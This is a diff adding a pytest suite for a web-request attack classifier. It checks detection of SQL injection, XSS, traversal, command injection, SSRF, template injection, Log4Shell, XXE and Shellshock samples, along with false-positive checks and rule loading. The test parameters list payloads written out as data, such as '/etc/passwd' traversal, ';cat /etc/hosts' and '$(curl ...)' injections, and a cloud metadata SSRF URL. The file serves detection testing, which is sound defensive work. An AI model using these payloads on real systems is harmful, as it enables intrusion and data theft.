@@ -1,0 +1,121 @@
+"""Payloads by class, as they come and in disguise; what looks like them and is ordinary; bounds."""
+
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from sensor.attacks.classes import Attack, AttackClass
+from sensor.attacks.classifier import AttackClassifier
+from sensor.attacks.core_rules import load_core_rules
+from sensor.attacks.values import VALUES_MAX, decode, list_values
+from sensor.keyed import KeyedHash
+
+CLASSIFIER = AttackClassifier(KeyedHash(1, bytes(16)).compute)
+
+
+def classify(query: str, path: str = "/", **parts: object) -> AttackClass | None:
+    found = CLASSIFIER.classify(path, query, **parts)  # type: ignore[arg-type]
+    return found.attack_class if found is not None else None
+
+
+@pytest.mark.parametrize(
+    ("query", "kind"),
+    [
+        ("id=1'+OR+'1'='1", AttackClass.SQLI),
+        ("id=1%2527%2520or%25201%253D1--%2520-", AttackClass.SQLI),
+        ("id=-1/**/uNiOn/*!50000all*/select/**/1,2,3", AttackClass.SQLI),
+        ("id=1;waitfor delay '0:0:5'--", AttackClass.SQLI),
+        ("q=<script>alert(1)</script>", AttackClass.XSS),
+        ("q=%26lt%3Bimg+src%3Dx+onerror%3Dalert(1)%26gt%3B", AttackClass.XSS),
+        ("q=\\u003cscript\\u003ealert(1)", AttackClass.XSS),
+        ("file=../../../../etc/passwd", AttackClass.TRAVERSAL),
+        ("file=..%c0%af..%c0%afwindows%c0%afwin.ini", AttackClass.TRAVERSAL),
+        ("host=127.0.0.1;cat+/etc/hosts", AttackClass.RCE),
+        ("x=$(curl+example.test)", AttackClass.RCE),
+        ("url=http://169.254.169.254/latest/meta-data/", AttackClass.SSRF),
+        ("url=gopher://h:70/_x", AttackClass.SSRF),
+        ("name={{7*7}}", AttackClass.SSTI),
+        ("name={{config.__class__}}", AttackClass.SSTI),
+        ("user[$ne]=x", AttackClass.NOSQL),
+        ('filter={"user":{"$gt":""}}', AttackClass.NOSQL),
+        ("user=*)(uid=*))(|(uid=*", AttackClass.LDAP),
+        ("x=${jndi:ldap://h/a}", AttackClass.LOG4SHELL),
+        ("x=${${lower:j}ndi:ldap://h/a}", AttackClass.LOG4SHELL),
+        ("next=/%0d%0aSet-Cookie:+a=b", AttackClass.SPLITTING),
+        ("doc=<!DOCTYPE+a+[<!ENTITY+b+SYSTEM+'file:///x'>]>", AttackClass.XXE),
+    ],
+)
+def test_each_class_is_found_plain_and_in_disguise(query: str, kind: AttackClass) -> None:
+    assert classify(query) is kind
+
+
+@pytest.mark.parametrize(
+    "query",
+    [
+        "q=rock+%26+roll&page=2&sort=-created_at",
+        "name=O'Brien&city=Coeur+d'Alene",
+        "q=select+a+gift+for+her&or=1",
+        "next=https://shop.example/cart?id=7&utm_source=mail",
+        "href=javascript:;&onclick=",
+        'filter={"status":"open","created":{"from":"2026-01-01"},"text":"this or that"}',
+        "token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln--x_y-",
+        "range=1..10&path=a/b/c.txt&ids[]=1&ids[]=2",
+        "expr=a+%3E+b&price=%2412.50&note=50%25+off!",
+        "fields=user(name,id),items(count)",
+        "date=2026-11-25T19:00:00%2B01:00",
+    ],
+)
+def test_ordinary_queries_are_no_attacks(query: str) -> None:
+    assert classify(query) is None
+
+
+def test_header_values_and_forms_are_looked_at() -> None:
+    assert classify("", others=("() { :; }; /bin/bash -c id",)) is AttackClass.RCE
+    assert classify("", body="a=1&b=1'+or+'1'%3D'1") is AttackClass.SQLI
+
+
+def test_the_payload_is_told_by_its_hash_alone() -> None:
+    first, again, other = (
+        CLASSIFIER.classify("/", f"id={value}") for value in ("1'%20or%201=1--+", "1'+or+1=1--+", "2'+or+1=1--+")
+    )
+    assert isinstance(first, Attack) and first == again
+    assert other is not None and other.payload_hash != first.payload_hash != 0
+    assert "1=1" not in repr(first)
+
+
+@given(st.text(max_size=400), st.text(max_size=400))
+def test_nothing_raises(path: str, query: str) -> None:
+    CLASSIFIER.classify(path, query, (query,), path)
+    assert isinstance(decode(query), str)
+
+
+def test_time_is_linear_and_values_are_bounded() -> None:
+    began = time.process_time()
+    CLASSIFIER.classify("/", "q=" + "(" * 100_000 + "' or " * 20_000)
+    CLASSIFIER.classify("/", "q=" + '{"a":' * 20_000)
+    assert time.process_time() - began < 2
+    assert len(list_values("/", "&".join(f"a{n}={n}" for n in range(10_000)))) == VALUES_MAX
+
+
+def test_core_rules_are_read_where_they_are_and_none_where_not(tmp_path: Path) -> None:
+    assert load_core_rules(tmp_path / "nothing") == ()
+    (tmp_path / "lfi-os-files.data").write_text("# files\netc/zz.conf\n")
+    (tmp_path / "REQUEST-942-A.conf").write_text(
+        'SecRule ARGS|ARGS_NAMES "@rx (?i)zz\\"select" \\\n    "id:942999,\\\n    tag:\'paranoia-level/1\'"\n\n'
+        'SecRule ARGS "@rx loose" \\\n    "id:942440,\\\n    tag:\'paranoia-level/2\'"\n\n'
+        'SecRule ARGS "@rx strict" \\\n    "id:942998,\\\n    tag:\'paranoia-level/3\'"\n\n'
+        'SecRule ARGS "@rx (?!x)unsupported" \\\n    "id:942997,\\\n    tag:\'paranoia-level/1\'"\n'
+    )
+    rules = load_core_rules(tmp_path)
+    assert [(rule.name, rule.attack_class) for rule in rules] == [
+        ("942999", AttackClass.SQLI),
+        ("942997", AttackClass.SQLI),
+        ("930120", AttackClass.TRAVERSAL),
+    ]
+    classifier = AttackClassifier(KeyedHash(1, bytes(16)).compute, rules)
+    assert classifier.left_out == ["942997"]
+    found = classifier.classify("/", "q=ZZ%22select")
+    assert found is not None and found.attack_class is AttackClass.SQLI
